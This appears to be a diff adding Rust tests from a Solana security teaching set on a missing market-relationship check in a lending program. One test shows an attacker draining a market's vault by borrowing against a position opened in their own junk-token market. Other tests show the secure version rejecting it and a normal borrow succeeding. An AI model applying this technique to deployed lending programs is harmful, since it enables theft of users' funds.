@@ -0,0 +1,252 @@
+/// # Pattern 11: Missing Relationship Check — Mollusk Exploit Tests
+///
+/// The real market lists a collateral token at 0.01 SOL per unit, lends up to
+/// 50% of collateral value, and holds 100 SOL. The attacker has created a
+/// second market for a token they minted themselves and opened a position in
+/// it holding 1,000,000 units.
+///
+/// - Test 1: EXPLOIT — borrow_vulnerable values the attacker's position at
+///   the real market's price and pays out the whole vault.
+/// - Test 2: SECURE — borrow_secure rejects the position because it belongs
+///   to another market.
+/// - Test 3: SANITY — borrow_secure lends against a position in the market
+///   it was opened in, up to its limit.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, ix_discriminator, system_account};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("FkEeUJhbjgte3VowtF76sgyRmwdiF9NVpA3tMtwwLWNj");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const PRICE: u64 = SOL / 100; // 0.01 SOL per collateral unit
+const LTV_BPS: u16 = 5_000;
+const LIQUIDITY: u64 = 100 * SOL;
+
+// Error codes
+const WRONG_MARKET: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Market account: [8 disc][32 admin][32 collateral_mint][8 price][2 ltv_bps][1 bump]
+fn serialize_market(admin: &Pubkey, mint: &Pubkey, price: u64, ltv_bps: u16, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(83);
+    data.extend_from_slice(&account_discriminator("Market"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(&price.to_le_bytes());
+    data.extend_from_slice(&ltv_bps.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account: [8 disc][32 owner][32 market][8 collateral][8 debt][1 bump]
+fn serialize_position(
+    owner: &Pubkey,
+    market: &Pubkey,
+    collateral: u64,
+    debt: u64,
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(89);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(market.as_ref());
+    data.extend_from_slice(&collateral.to_le_bytes());
+    data.extend_from_slice(&debt.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// A market PDA for `mint` at `price`, holding `liquidity` lamports above rent.
+fn market(
+    admin: &Pubkey,
+    mint: &Pubkey,
+    price: u64,
+    liquidity: u64,
+) -> (Pubkey, AccountSharedData) {
+    let (address, bump) =
+        Pubkey::find_program_address(&[b"market", admin.as_ref(), mint.as_ref()], &PROGRAM_ID);
+    let data = serialize_market(admin, mint, price, LTV_BPS, bump);
+    let mut account = AccountSharedData::new(RENT + liquidity, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account)
+}
+
+/// `owner`'s position PDA in `market`. Returns (address, account, bump).
+fn position(owner: &Pubkey, market: &Pubkey, collateral: u64) -> (Pubkey, AccountSharedData, u8) {
+    let (address, bump) =
+        Pubkey::find_program_address(&[b"position", market.as_ref(), owner.as_ref()], &PROGRAM_ID);
+    let data = serialize_position(owner, market, collateral, 0, bump);
+    let mut account = AccountSharedData::new(RENT, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account, bump)
+}
+
+fn borrow_ix(
+    name: &str,
+    market: Pubkey,
+    position: Pubkey,
+    owner: Pubkey,
+    amount: u64,
+) -> Instruction {
+    let mut data = ix_discriminator(name).to_vec();
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(market, false),
+            AccountMeta::new(position, false),
+            AccountMeta::new(owner, true),
+        ],
+    )
+}
+
+/// The real market, plus the attacker's own market and a position in it
+/// holding 1,000,000 units of the attacker's token.
+struct Setup {
+    real_market: Pubkey,
+    real_market_account: AccountSharedData,
+    fake_market: Pubkey,
+    attacker: Pubkey,
+    position: Pubkey,
+    position_account: AccountSharedData,
+    position_bump: u8,
+}
+
+fn setup() -> Setup {
+    let admin = Pubkey::new_unique();
+    let real_mint = Pubkey::new_unique();
+    let (real_market, real_market_account) = market(&admin, &real_mint, PRICE, LIQUIDITY);
+
+    let attacker = Pubkey::new_unique();
+    let junk_mint = Pubkey::new_unique();
+    let (fake_market, _) = market(&attacker, &junk_mint, 0, 0);
+    let (position, position_account, position_bump) = position(&attacker, &fake_market, 1_000_000);
+
+    Setup {
+        real_market,
+        real_market_account,
+        fake_market,
+        attacker,
+        position,
+        position_account,
+        position_bump,
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_foreign_position_drains_market() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The attacker calls borrow_vulnerable on the real market with
+    // their position from the junk market, borrowing all 100 SOL.
+    //
+    // Expected: SUCCEEDS — 1,000,000 junk units are valued at 0.01 SOL each
+    //           (limit 5,000 SOL), and the real market is emptied down to
+    //           its rent.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "missing_has_one");
+    let s = setup();
+
+    let indebted = serialize_position(
+        &s.attacker,
+        &s.fake_market,
+        1_000_000,
+        LIQUIDITY,
+        s.position_bump,
+    );
+    mollusk.process_and_validate_instruction(
+        &borrow_ix(
+            "borrow_vulnerable",
+            s.real_market,
+            s.position,
+            s.attacker,
+            LIQUIDITY,
+        ),
+        &[
+            (s.real_market, s.real_market_account),
+            (s.position, s.position_account),
+            (s.attacker, system_account(RENT)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&s.real_market).lamports(RENT).build(),
+            Check::account(&s.position).data(&indebted).build(),
+            Check::account(&s.attacker)
+                .lamports(RENT + LIQUIDITY)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_has_one_market_rejects_foreign_position() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same borrow through borrow_secure.
+    //
+    // Expected: FAILS with WrongMarket (6000) — position.market is the junk
+    //           market, not the one passed in.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "missing_has_one");
+    let s = setup();
+
+    mollusk.process_and_validate_instruction(
+        &borrow_ix(
+            "borrow_secure",
+            s.real_market,
+            s.position,
+            s.attacker,
+            LIQUIDITY,
+        ),
+        &[
+            (s.real_market, s.real_market_account),
+            (s.position, s.position_account),
+            (s.attacker, system_account(RENT)),
+        ],
+        &[Check::err(ProgramError::Custom(WRONG_MARKET))],
+    );
+}
+
+#[test]
+fn sanity_own_market_position_borrows_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: A borrower with 1,000 units (10 SOL of value) in the real
+    // market borrows 5 SOL through borrow_secure.
+    //
+    // Expected: SUCCEEDS — exactly the 50% limit, recorded as debt.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "missing_has_one");
+    let s = setup();
+    let borrower = Pubkey::new_unique();
+    let (position, position_account, bump) = position(&borrower, &s.real_market, 1_000);
+
+    let indebted = serialize_position(&borrower, &s.real_market, 1_000, 5 * SOL, bump);
+    mollusk.process_and_validate_instruction(
+        &borrow_ix("borrow_secure", s.real_market, position, borrower, 5 * SOL),
+        &[
+            (s.real_market, s.real_market_account),
+            (position, position_account),
+            (borrower, system_account(RENT)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&s.real_market)
+                .lamports(RENT + LIQUIDITY - 5 * SOL)
+                .build(),
+            Check::account(&position).data(&indebted).build(),
+            Check::account(&borrower).lamports(RENT + 5 * SOL).build(),
+        ],
+    );
+}